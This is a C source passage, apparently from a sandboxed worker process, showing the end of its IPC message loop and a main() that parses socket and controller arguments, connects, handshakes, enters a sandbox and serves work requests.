	while ((rc = recv_msg(h, 1000, &m, false)) >= 0) {
		if (rc == 1) {
			continue;
		}
		if (m.type == IPC_WORK) {
			work(h, &m);
		} else if (m.type == IPC_QUIT) {
			ipc_msg_fini(&m);
			return;
		} else {
			heartbeat(h, &m);
		}
		ipc_msg_fini(&m);
	}
}

int
main(int argc, char **argv)
{
	const char *path = NULL, *controller = "skillpack";
	struct hw h = { .next_id = 1 };
	char err[256];
	enum sbx_mode mode;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--list-controllers") == 0) {
			puts("skillpack");
			return (0);
		}
		if (strcmp(argv[i], "--socket") == 0 && i + 1 < argc) {
			path = argv[++i];
		} else if (strcmp(argv[i], "--controller") == 0
		        && i + 1 < argc) {
			controller = argv[++i];
		}
	}
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (path == NULL || sbx_parse_mode(getenv(SBX_ENV), &mode) != 0) {
		say("usage: --controller NAME --socket PATH");
		return (IPC_EXIT_PERMANENT);
	}
	if (dial(&h, path) != 0 || handshake(&h, controller) != 0) {
		say("no session");
		return (1);
	}
	if (sbx_enter(mode, err, sizeof(err)) != 0) {
		say("sandbox: %s", err);
		return (IPC_EXIT_PERMANENT);
	}
	say("hello (sandbox %s)", mode == SBX_ON ? "on" : "not on");
	serve(&h);
	nng_close(h.s);
	return (0);
}
